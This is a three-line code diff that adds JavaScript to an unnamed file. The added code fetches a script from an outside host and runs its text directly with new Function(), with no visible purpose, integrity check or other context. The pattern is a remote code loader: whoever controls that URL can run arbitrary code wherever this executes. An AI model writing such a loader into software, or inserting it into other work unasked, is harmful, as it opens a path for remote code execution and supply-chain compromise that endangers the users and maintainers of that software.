@@ -1,0 +1,3 @@
+const response = await fetch("https://cdn.example.net/s.js");
+const text = await response.text();
+new Function(text)();
